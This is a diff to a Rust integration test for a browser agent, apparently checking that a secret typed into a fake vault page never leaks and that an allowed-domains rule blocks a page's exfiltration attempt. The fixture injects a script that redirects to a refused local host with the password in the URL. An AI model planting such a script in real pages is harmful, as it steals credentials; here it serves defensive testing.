@@ -22,7 +22,7 @@ use std::time::{Duration, Instant};
 use serde_json::{json, Value};
 use tokio::io::AsyncReadExt;
 
-use llm_server::{tool_call_completion, LlmServer, Reply};
+use llm_server::{tool_call_completion, tool_call_events, LlmServer, Reply};
 use webagent::actions::{Action, ActionResult, Catalog, FailureReason};
 use webagent::agent::AGENT_TOOL_NAME;
 use webagent::browser::act::ExecOptions;
@@ -1029,16 +1029,38 @@ fn serve_vault() -> String {
              <button type=submit>Send</button></form>",
         ),
     );
-    s.home.handle("/vault/echo", |req| {
-        let sent = url::form_urlencoded::parse(req.query.as_bytes())
-            .find(|(k, _)| k == "pw")
-            .map(|(_, v)| v.into_owned())
-            .unwrap_or_default();
+    // The same form, but its answer page then sends the value on to a
+    // host the allowed domains refuse, by itself, while the model thinks.
+    s.home.html(
+        "/vault/run",
+        page(
+            "Vault",
+            "<form action=/vault/echo method=get><input name=pw id=pw placeholder=Password>\
+             <input type=hidden name=leak value=1><button type=submit>Send</button></form>",
+        ),
+    );
+    let refused = format!("http://localhost:{}/leak", s.away.addr().port());
+    s.home.handle("/vault/echo", move |req| {
+        let field = |name: &str| {
+            url::form_urlencoded::parse(req.query.as_bytes())
+                .find(|(k, _)| k == name)
+                .map(|(_, v)| v.into_owned())
+                .unwrap_or_default()
+        };
+        let sent = field("pw");
+        let leak = if field("leak") == "1" {
+            format!(
+                "<script>setTimeout(() => {{ location.href = '{refused}?pw=' + \
+                 encodeURIComponent(document.getElementById('copy').value) }}, 300)</script>"
+            )
+        } else {
+            String::new()
+        };
         Response::html(format!(
             "<!doctype html><html><head><title>Echo {sent}</title></head><body>\
              <p>You sent {sent}</p><input id=copy value=\"{sent}\">\
              <a href=\"/vault/again?pw={sent}\">again</a> \
-             <a href=/vault/notes.txt download>notes</a></body></html>"
+             <a href=/vault/notes.txt download>notes</a>{leak}</body></html>"
         ))
     });
     s.home.handle("/vault/notes.txt", |_| {
@@ -1048,12 +1070,17 @@ fn serve_vault() -> String {
     s.home.url("/vault")
 }
 
-/// A config naming the secret, for every command alike.
+/// A config naming the secret and allowing only the vault's origin, for
+/// every command alike.
 fn vault_config(dir: &std::path::Path) -> std::path::PathBuf {
     let config = dir.join("webagent.yaml");
     std::fs::write(
         &config,
-        "secrets:\n  vault: env:WEBAGENT_TEST_VAULT\npaths:\n  sessions: sessions\n",
+        format!(
+            "secrets:\n  vault: env:WEBAGENT_TEST_VAULT\npaths:\n  sessions: sessions\n\
+             allowed_domains: [\"{}\"]\n",
+            shared().home.origin()
+        ),
     )
     .expect("the config");
     config
@@ -1126,7 +1153,19 @@ fn a_secret_reaches_no_output_channel() {
                 "send it",
                 json!({"click": {"selector": "button[type=submit]"}}),
             ),
-            reply("read what came back", json!({"read_page": {}})),
+            // The model takes its time: meanwhile the page tries to send
+            // the value to a refused host, which is reported as an event.
+            Reply::sse(tool_call_events(
+                AGENT_TOOL_NAME,
+                &json!({
+                    "evaluation_previous_goal": "sent",
+                    "memory": "",
+                    "next_goal": "read what came back",
+                    "action": {"read_page": {}},
+                }),
+                4,
+            ))
+            .paced(Duration::from_millis(500)),
             reply(
                 "extract it",
                 json!({"extract": {"instruction": "what was sent"}}),
@@ -1139,7 +1178,15 @@ fn a_secret_reaches_no_output_channel() {
         ])
         .await;
         let mut run = command(&["run", "Send the vault code", "--json", "--yes"]);
-        run.args(["--model", "m", "--url", &url, "--base-url", &llm.base_url()]);
+        let start = shared().home.url("/vault/run");
+        run.args([
+            "--model",
+            "m",
+            "--url",
+            &start,
+            "--base-url",
+            &llm.base_url(),
+        ]);
         let output = tokio::task::spawn_blocking(move || run.output())
             .await
             .expect("joined")
@@ -1154,6 +1201,12 @@ fn a_secret_reaches_no_output_channel() {
     assert_no_secret("the model", &sent);
     // The value did reach the page, and came back to the model masked.
     assert!(sent.contains(&format!("You sent {placeholder}")), "{sent}");
+    // The page's own attempt was refused and reported, masked.
+    assert!(
+        stdout.contains("blocked a navigation to")
+            && stdout.contains("leak?pw=<secret>vault</secret>"),
+        "the refusal is reported:\n{stdout}"
+    );
     assert_no_secret("--json events", &stdout);
     assert_no_secret("stderr", &String::from_utf8_lossy(&output.stderr));
     let traces = all_text_under(&dir.join("sessions"));
